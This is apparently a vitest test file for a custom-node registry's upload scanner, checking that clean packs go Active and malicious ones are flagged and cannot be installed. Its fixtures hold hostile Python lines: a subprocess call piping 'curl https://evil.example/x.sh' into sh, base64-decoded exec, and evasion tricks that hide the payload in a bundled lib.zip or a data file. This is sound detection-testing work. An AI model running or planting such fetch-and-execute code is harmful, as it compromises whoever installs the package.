import { readFileSync } from 'node:fs';
import { eq, sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { insertNode, insertPublisher, insertUser } from '#test/factories.ts';
import { insertUploadedVersion } from '#test/publish.ts';
import { createTestApp, type TestApp } from '#test/test-app.ts';
import { buildZip } from '#test/zip.ts';
import type { PublisherRow } from '../../db/rows.ts';
import {
  auditLog,
  comfyNodeCollisions,
  comfyNodes,
  jobs,
  nodes,
  nodeVersions,
  versionScanFindings,
} from '../../db/schema/index.ts';
import { enqueueJob } from '../../jobs/queue.ts';
import { JobWorker } from '../../jobs/worker.ts';
import type { ThreadLimits } from '../../analysis/thread/analyze-in-thread.ts';
import { listVersionFindings } from './findings.ts';
import { VERSION_SCAN_JOB, versionScanHandler } from './scan-version.ts';
import { PASSED_REASON, SCAN_FAILED_REASON } from './verdict.ts';

const CLEAN = {
  '__init__.py': 'from .nodes import NODE_CLASS_MAPPINGS, NODE_DISPLAY_NAME_MAPPINGS\n',
  'nodes.py':
    'class Blur:\n    CATEGORY = "image"\n    RETURN_TYPES = ("IMAGE",)\n    FUNCTION = "run"\n' +
    'NODE_CLASS_MAPPINGS = {"BlurImage": Blur, "SharedName": Blur}\nNODE_DISPLAY_NAME_MAPPINGS = {"BlurImage": "Blur"}\n',
};
const MALICIOUS = {
  '__init__.py': 'from .nodes import NODE_CLASS_MAPPINGS\n',
  'nodes.py':
    'import base64, subprocess\n' +
    'exec(base64.b64decode("aW1wb3J0IG9z"))\n' +
    'subprocess.run("curl -s https://evil.example/x.sh | sh", shell=True)\n' +
    'class Evil:\n    CATEGORY = "x"\nNODE_CLASS_MAPPINGS = {"Evil": Evil}\n',
  'bin/tool.exe': 'MZ',
};

const PAYLOAD =
  'import base64, subprocess\n' +
  'subprocess.Popen("curl -s https://evil.example/x.sh | sh", shell=True)\n' +
  'exec(base64.b64decode("aW1wb3J0IG9z"))\n';
/** Issue 14 (a): a bundled lib.zip put on sys.path; the payload is imported from it. */
const LIB_ZIP_EVASION = {
  '__init__.py':
    'import os, sys\nsys.path.insert(0, os.path.join(os.path.dirname(__file__), "lib.zip"))\n' +
    'import payload\nfrom .nodes import NODE_CLASS_MAPPINGS\n',
  'nodes.py': CLEAN['nodes.py'],
  'lib.zip': buildZip({ 'payload.py': PAYLOAD }),
};
/** Issue 14 (b): the payload in a text file, exec'ed. */
const DATA_FILE_EVASION = {
  '__init__.py':
    'import os\nexec(open(os.path.join(os.path.dirname(__file__), "data.txt")).read())\n' +
    'from .nodes import NODE_CLASS_MAPPINGS\n',
  'nodes.py': CLEAN['nodes.py'],
  'data.txt': PAYLOAD,
};

describe('the version.scan pipeline', () => {
  let t: TestApp;
  let publisher: PublisherRow;
  let counter = 0;

  async function pendingVersion(files: Record<string, string | Uint8Array>, nodeId = `scan-pack-${++counter}`) {
    await insertNode(t.services.db, { publisherId: publisher.id, id: nodeId });
    const version = await insertUploadedVersion(t.services, {
      publisherId: publisher.id,
      nodeId,
      version: '1.0.0',
      bytes: buildZip(files),
      status: 'NodeVersionStatusPending',
    });
    await enqueueJob(t.services.db, VERSION_SCAN_JOB, { versionId: version.id });
    return version;
  }
  const versionRow = async (id: string) =>
    (await t.services.db.select().from(nodeVersions).where(eq(nodeVersions.id, id)))[0]!;
  const jobsOf = async (versionId: string) =>
    (await t.services.db.select().from(jobs).where(eq(jobs.kind, VERSION_SCAN_JOB.name))).filter(
      (job) => (job.payload as { versionId: string }).versionId === versionId,
    );

  beforeAll(async () => {
    t = await createTestApp();
    publisher = await insertPublisher(t.services.db, { owner: await insertUser(t.services.db) });
  });
  afterAll(() => t.close());

  it('makes a clean pack Active by itself, stores its node classes and bumps the node', async () => {
    const version = await pendingVersion(CLEAN);
    const [before] = await t.services.db.select().from(nodes).where(eq(nodes.id, version.nodeId));
    expect(await t.runJobs()).toBe(1);
    expect(await versionRow(version.id)).toMatchObject({
      status: 'NodeVersionStatusActive',
      statusReason: PASSED_REASON,
      comfyNodeExtractStatus: 'success',
    });
    const classes = await t.services.db.select().from(comfyNodes).where(eq(comfyNodes.nodeVersionId, version.id));
    expect(classes.map((c) => [c.name, c.displayName, c.category]).sort()).toEqual([
      ['BlurImage', 'Blur', 'image'],
      ['SharedName', null, 'image'],
    ]);
    const [after] = await t.services.db.select().from(nodes).where(eq(nodes.id, version.nodeId));
    expect(after!.latestVersionId).toBe(version.id);
    expect(after!.updatedAt.getTime()).toBeGreaterThan(before!.updatedAt.getTime());
    expect((await jobsOf(version.id))[0]).toMatchObject({ status: 'succeeded', attempts: 1 });
    const audits = await t.services.db.select().from(auditLog).where(eq(auditLog.targetId, version.id));
    expect(audits.map((a) => [a.action, a.actorKind])).toEqual([['node_version.scan', 'system']]);
  });

  it('flags a malicious pack with the right findings, and it is not installable', async () => {
    const version = await pendingVersion(MALICIOUS);
    await t.runJobs();
    const row = await versionRow(version.id);
    expect(row.status).toBe('NodeVersionStatusFlagged');
    expect(row.statusReason).toMatch(
      /^Flagged by the automated scan \(rules [\d.]+\): 2 critical, 1 high\. PY002 at nodes.py:2;/,
    );
    const findings = await listVersionFindings(t.services.db, version.id);
    expect(findings.map((f) => [f.ruleId, f.severity, f.file, f.line])).toEqual([
      ['PY002', 'critical', 'nodes.py', 2],
      ['PY021', 'critical', 'nodes.py', 3],
      ['PY070', 'high', 'bin/tool.exe', null],
    ]);
    expect(findings[0]!.snippet).toBe('exec(base64.b64decode("aW1wb3J0IG9z"))');
    const install = await t.request(`/nodes/${version.nodeId}/install?version=1.0.0`);
    expect(install.status).toBe(404);
    const [node] = await t.services.db.select().from(nodes).where(eq(nodes.id, version.nodeId));
    expect(node!.latestVersionId).toBeNull();
  });

  it.each([
    ['a bundled lib.zip on sys.path', LIB_ZIP_EVASION, ['PY021', 'PY002', 'PY012']],
    ['a payload exec’ed from a text file', DATA_FILE_EVASION, ['PY004']],
  ])('flags %s: never Active, never installable', async (_, files, rules) => {
    const version = await pendingVersion(files);
    await t.runJobs();
    const row = await versionRow(version.id);
    expect(row.status).toBe('NodeVersionStatusFlagged');
    const findings = await listVersionFindings(t.services.db, version.id);
    expect(findings.map((f) => f.ruleId)).toEqual(expect.arrayContaining(rules));
    for (const rule of rules) expect(row.statusReason).toContain(rule);
    expect((await t.request(`/nodes/${version.nodeId}/install?version=1.0.0`)).status).toBe(404);
  });

  it('records collisions with other packs’ current class names', async () => {
    const version = await pendingVersion(CLEAN);
    await t.runJobs();
    const collisions = await t.services.db
      .select()
      .from(comfyNodeCollisions)
      .where(eq(comfyNodeCollisions.nodeVersionId, version.id));
    // The first test's pack is Active with the same two names.
    expect(collisions.map((c) => [c.comfyNodeName, c.otherNodeId]).sort()).toEqual([
      ['BlurImage', 'scan-pack-1'],
      ['SharedName', 'scan-pack-1'],
    ]);
  });

  it('rolls a crash mid-commit back completely, and the retry finishes the job', async () => {
    const version = await pendingVersion(MALICIOUS);
    let crashes = 1;
    const crashing = new JobWorker(
      t.services,
      [
        versionScanHandler({
          beforeCommit: async () => {
            if (crashes-- > 0) throw new Error('simulated crash before commit');
          },
        }),
      ],
      { log: () => {}, backoffBaseMs: 0 },
    );
    expect(await crashing.runOne()).toBe(true);
    // Nothing of the first attempt survived.
    expect(await versionRow(version.id)).toMatchObject({
      status: 'NodeVersionStatusPending',
      comfyNodeExtractStatus: 'pending',
    });
    expect(await listVersionFindings(t.services.db, version.id)).toEqual([]);
    expect(await t.services.db.select().from(comfyNodes).where(eq(comfyNodes.nodeVersionId, version.id))).toEqual([]);
    expect((await jobsOf(version.id))[0]).toMatchObject({
      status: 'queued',
      attempts: 1,
      lastError: 'simulated crash before commit',
    });
    expect(await crashing.runDue()).toBe(1);
    expect((await versionRow(version.id)).status).toBe('NodeVersionStatusFlagged');
    expect((await jobsOf(version.id))[0]).toMatchObject({ status: 'succeeded', attempts: 2 });
    const findings = await t.services.db
      .select()
      .from(versionScanFindings)
      .where(eq(versionScanFindings.nodeVersionId, version.id));
    expect(findings).toHaveLength(3);
  });

  it('retries a job whose worker died (stale lock), and processes it once', async () => {
    const version = await pendingVersion(CLEAN);
    const dead = new JobWorker(t.services, [versionScanHandler()], { log: () => {} });
    // The "dead" worker claims the job and never finishes it.
    const { claimJob } = await import('../../jobs/queue.ts');
    const claimed = await claimJob(t.services.db, [VERSION_SCAN_JOB.name], dead.id);
    expect(claimed).not.toBeNull();
    expect(await t.runJobs()).toBe(0);
    expect(await t.jobs.reapStale(0)).toBe(1);
    expect(await t.runJobs()).toBe(1);
    expect((await versionRow(version.id)).status).toBe('NodeVersionStatusActive');
    expect((await jobsOf(version.id))[0]).toMatchObject({ status: 'succeeded', attempts: 2 });
  });

  it('runs each job exactly once with two workers draining the queue at the same time', async () => {
    const versions = await Promise.all([1, 2, 3, 4].map(() => pendingVersion(CLEAN)));
    const runs: string[] = [];
    const counting = () => {
      const handler = versionScanHandler();
      return {
        ...handler,
        run: async (...args: Parameters<typeof handler.run>) => (runs.push(String(args[1].id)), handler.run(...args)),
      };
    };
    const a = new JobWorker(t.services, [counting()], { log: () => {} });
    const b = new JobWorker(t.services, [counting()], { log: () => {} });
    const [ranA, ranB] = await Promise.all([a.runDue(), b.runDue()]);
    expect(ranA + ranB).toBe(4);
    expect(new Set(runs).size).toBe(runs.length);
    for (const version of versions) expect((await versionRow(version.id)).status).toBe('NodeVersionStatusActive');
  });

  it('flags the version "scan failed" when the job runs out of attempts (never stuck Pending)', async () => {
    const version = await pendingVersion(CLEAN);
    await t.services.db.update(jobs).set({ maxAttempts: 2 }).where(eq(jobs.status, 'queued'));
    // The stored archive disappears: every attempt fails.
    const [row] = await t.services.db.select().from(nodeVersions).where(eq(nodeVersions.id, version.id));
    const { archives } = await import('../../db/schema/index.ts');
    const [archive] = await t.services.db.select().from(archives).where(eq(archives.id, row!.archiveId!));
    await t.services.storage.delete(archive!.key);
    const worker = new JobWorker(t.services, [versionScanHandler()], { log: () => {}, backoffBaseMs: 0 });
    expect(await worker.runDue()).toBe(2);
    expect(await versionRow(version.id)).toMatchObject({
      status: 'NodeVersionStatusFlagged',
      statusReason: SCAN_FAILED_REASON,
    });
    expect((await jobsOf(version.id))[0]).toMatchObject({
      status: 'failed',
      lastError: 'The accepted archive is missing from storage.',
    });
  });

  /** Runs the due jobs with other analysis-thread caps: how many ran. */
  async function runDueWithLimits(limits: ThreadLimits) {
    t.services.config.analysisLimits = limits;
    try {
      return await new JobWorker(t.services, [versionScanHandler()], { log: () => {}, backoffBaseMs: 0 }).runDue();
    } finally {
      delete t.services.config.analysisLimits;
    }
  }

  it('flags the version "scan failed" at once, without retries, when the analysis thread runs out of memory', async () => {
    // 50,000 mapped classes need far more than 32 MB of interpreter values (they fit in the default 1 GB).
    const mappings = Array.from({ length: 50_000 }, (_, i) => `    "Node${i}": Base,`).join('\n');
    const version = await pendingVersion({
      '__init__.py': `class Base:\n    pass\nNODE_CLASS_MAPPINGS = {\n${mappings}\n}\n`,
    });
    // The thread dies; the server process (this test) carries on.
    expect(await runDueWithLimits({ maxHeapMb: 32, timeoutMs: 60_000 })).toBe(1);
    expect(await versionRow(version.id)).toMatchObject({
      status: 'NodeVersionStatusFlagged',
      statusReason: SCAN_FAILED_REASON,
    });
    const [job] = await jobsOf(version.id);
    expect(job).toMatchObject({ status: 'failed', attempts: 1 });
    expect(job!.lastError).toContain('ran out of memory');
  });

  it('gives up at once when the analysis outlives its wall-clock cap', async () => {
    // Thousands of mapped classes: far more than 1 ms of analysis even on a warm, idle thread.
    const mappings = Array.from({ length: 5_000 }, (_, i) => `    "Node${i}": Base,`).join('\n');
    const version = await pendingVersion({
      '__init__.py': `class Base:\n    pass\n\nNODE_CLASS_MAPPINGS = {\n${mappings}\n}\n`,
    });
    expect(await runDueWithLimits({ maxHeapMb: 1024, timeoutMs: 1 })).toBe(1);
    expect(await versionRow(version.id)).toMatchObject({ status: 'NodeVersionStatusFlagged' });
    expect((await jobsOf(version.id))[0]!.lastError).toContain('took longer than 1 ms');
  });

  it('never overturns an admin decision: a rescan of an admin-flagged version leaves its status', async () => {
    const version = await pendingVersion(CLEAN);
    await t.services.db
      .update(nodeVersions)
      .set({ status: 'NodeVersionStatusFlagged', statusReason: 'Held by an admin' })
      .where(eq(nodeVersions.id, version.id));
    await t.runJobs();
    expect(await versionRow(version.id)).toMatchObject({
      status: 'NodeVersionStatusFlagged',
      statusReason: 'Held by an admin',
      comfyNodeExtractStatus: 'success',
    });
  });

  it('runs a scan queued under the legacy name (version.uploaded) once migration 0026 renamed it', async () => {
    const nodeId = `scan-pack-${++counter}`;
    await insertNode(t.services.db, { publisherId: publisher.id, id: nodeId });
    const version = await insertUploadedVersion(t.services, {
      publisherId: publisher.id,
      nodeId,
      version: '1.0.0',
      bytes: buildZip(CLEAN),
      status: 'NodeVersionStatusPending',
    });
    // A row as code before issue 17 queued it: no handler answers to that name any more.
    await t.services.db.insert(jobs).values({ kind: 'version.uploaded', payload: { versionId: version.id } });
    expect(await t.runJobs()).toBe(0);
    // What an upgrade applies (the migrator runs this file once; the test database is already migrated).
    const migration = new URL('../../db/migrations/0026_rename_legacy_scan_jobs.sql', import.meta.url);
    await t.services.db.execute(sql.raw(readFileSync(migration, 'utf8')));
    expect(await t.services.db.select().from(jobs).where(eq(jobs.kind, 'version.uploaded'))).toEqual([]);
    expect(await t.runJobs()).toBe(1);
    expect(await versionRow(version.id)).toMatchObject({
      status: 'NodeVersionStatusActive',
      statusReason: PASSED_REASON,
    });
  });
});
